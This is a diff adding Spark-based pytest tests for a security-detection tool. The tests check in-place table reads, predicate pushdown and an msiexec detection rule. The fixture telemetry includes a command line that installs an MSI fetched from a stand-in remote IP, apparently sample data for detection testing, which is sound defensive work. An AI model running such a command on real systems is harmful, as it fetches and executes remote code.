@@ -1,0 +1,119 @@
+"""Raw tables read in place: the same events as when they are taken in, and predicates that still reach the files."""
+
+from __future__ import annotations
+
+import json
+from datetime import datetime, timedelta, timezone
+from pathlib import Path
+
+import pytest
+from pyspark.sql import DataFrame, SparkSession
+from pyspark.sql import functions as F
+
+from procnet.detections.catalog import load_detections
+from procnet.errors import DataError
+from procnet.lake.tables import Lake, in_period
+from procnet.runs.detect import detect
+from procnet.runs.events import read_events
+from procnet.settings import Settings, SourceSettings
+from procnet.sources.load import load_source
+from procnet.sources.normalize import normalize
+from procnet.sources.readers import read_table
+from procnet.sources.view import canonical_view
+from procnet.types import Window
+
+pytestmark = pytest.mark.spark
+TEN = datetime(2026, 3, 2, 10, tzinfo=timezone.utc)
+WINDOW = Window(TEN, TEN + timedelta(hours=1))
+CONNECTIONS = "event_time timestamp, host string, process_id bigint, process_name string, dest_ip string, dest_port int"
+STARTS = "_time timestamp, dest string, process_id bigint, process_exec string, process string, more array<int>"
+
+
+def plan_of(frame: DataFrame) -> str:
+    frame.sparkSession.conf.set("spark.sql.maxMetadataStringLength", "10000")  # else filters are cut in the text
+    return str(frame._jdf.queryExecution().executedPlan().toString())
+
+
+@pytest.fixture(scope="module")
+def raw(spark: SparkSession, tmp_path_factory: pytest.TempPathFactory) -> Path:
+    folder = tmp_path_factory.mktemp("raw")
+    rows = [(TEN + timedelta(seconds=s), "PC1.corp.example", 77, "MSIEXEC.exe", "192.0.2.7", 443) for s in (5, 5000)]
+    connections = spark.createDataFrame([*rows, *rows], CONNECTIONS)
+    connections.write.parquet(str(folder / "connections"))
+    connections.write.format("delta").save(str(folder / "connections_delta"))
+    starts = [(TEN, "pc1", 77, "msiexec.exe", "msiexec /i http://192.0.2.7/a.msi", [1])]
+    spark.createDataFrame(starts, STARTS).write.parquet(str(folder / "starts"))
+    return folder
+
+
+@pytest.mark.parametrize("table", ["connections", "connections_delta"])
+def test_predicates_reach_the_files(spark: SparkSession, raw: Path, tmp_path: Path, table: str) -> None:
+    mine = tmp_path / "mine.yml"
+    mine.write_text("like: cim\nas_is: [process_name, host, dest_port]\n")
+    view = canonical_view(read_table(spark, str(raw / table)), load_source(mine), "network_events")
+    assert view is not None
+    asked = in_period(WINDOW.start, WINDOW.end) & F.col("dest_port").isin(80, 443)
+    asked = asked & (F.col("process_name") == "msiexec.exe") & (F.col("host") == "pc1")
+    plan = plan_of(view.where(asked).select("dest_ip"))
+    pushed = plan[plan.index("PushedFilters") :].split("ReadSchema")[0]
+    for column in ("GreaterThanOrEqual(event_time", "LessThan(event_time", "In(dest_port, ["):
+        assert column in pushed, plan
+    for column in ("EqualTo(process_name,msiexec.exe)", "EqualTo(host,pc1)"):
+        assert column in pushed, plan
+    assert "src_ip" not in plan[plan.index("ReadSchema") :]
+
+
+def test_without_a_promise_time_and_port_reach_the_files_all_the_same(spark: SparkSession, raw: Path) -> None:
+    view = canonical_view(read_table(spark, str(raw / "connections")), load_source("cim"), "network_events")
+    assert view is not None
+    plan = plan_of(view.where(in_period(WINDOW.start, WINDOW.end)).select("dest_ip"))
+    pushed = plan[plan.index("PushedFilters") :].split("ReadSchema")[0]
+    assert "GreaterThanOrEqual(event_time" in pushed, plan
+    assert "LessThan(event_time" in pushed, plan
+
+
+def test_in_place_says_what_taking_in_says(spark: SparkSession, raw: Path) -> None:
+    source = load_source("cim")
+    for table, place in (("network_events", "connections"), ("process_events", "starts")):
+        frame = read_table(spark, str(raw / place))
+        view = canonical_view(frame, source, table)
+        assert view is not None
+        taken = getattr(normalize(frame, source, ingest_time=TEN), table)
+        there = [c for c in view.columns if c != "ingest_time"]
+        assert sorted(view.select(*there).collect()) == sorted(taken.select(*there).collect())
+        assert view.schema.simpleString() == taken.schema.simpleString()
+
+
+def test_records_that_lie_as_texts_in_a_column(spark: SparkSession) -> None:
+    record = {"EventID": 3, "SourceName": "Microsoft-Windows-Sysmon", "Hostname": "pc2.", "ProcessId": "88"}
+    record |= {"@timestamp": "2026-03-02T10:00:11Z", "Image": "C:\\w\\MSIEXEC.exe", "DestinationPort": "80"}
+    raw = spark.createDataFrame([(json.dumps(record), None)], "raw string, problem string")
+    view = canonical_view(raw, load_source("windows_flat"), "network_events", name="mine")
+    assert view is not None
+    asked = view.where((F.col("process_name") == "msiexec.exe") & (F.col("dest_port") == 80))
+    told = asked.select("source", "host", "process_id", "process_name", F.col("event_time").cast("string")).collect()
+    assert [tuple(r) for r in told] == [("mine", "pc2", 88, "msiexec.exe", "2026-03-02 10:00:11")]
+
+
+def test_sources_side_by_side_are_detected_in_place(spark: SparkSession, raw: Path, tmp_path: Path) -> None:
+    """Starts from one table, connections from the other; nothing is taken into the lake but the finding."""
+    tables = (str(raw / "starts"), str(raw / "connections"))
+    sources = {"edr": SourceSettings(mapping="cim", tables=tables, clock_ahead=timedelta(seconds=1))}
+    settings = Settings(lake=tmp_path / "lake", sources=sources)
+    lake = Lake(spark, settings)
+    lake.create()
+    detections = load_detections(settings.detections_folder)
+    msiexec = [d for d in detections if d.id.startswith("b0fd38c7")]
+    report = detect(spark, settings, WINDOW, msiexec)
+    rows = lake.read("findings").orderBy("event_time").collect()
+    told = [(r["source"], r["host"], r["attribution"], r["dest_port"], r["process"], str(r["event_time"])) for r in rows]
+    assert told == [
+        ("edr", "pc1.corp.example", "host_pid", 443, "msiexec /i http://192.0.2.7/a.msi", "2026-03-02 10:00:04"),
+    ], "the connection that lies twice in its table is one"
+    assert report.counts["connections"] == 2
+
+
+def test_a_column_that_is_not_there_is_told(spark: SparkSession, raw: Path, tmp_path: Path) -> None:
+    wrong = SourceSettings(mapping="windows_xml", tables=(str(raw / "starts"),), column="xml")
+    with pytest.raises(DataError, match="has no column xml; it has _time, dest"):
+        read_events(Lake(spark, Settings(lake=tmp_path, sources={"s": wrong})))
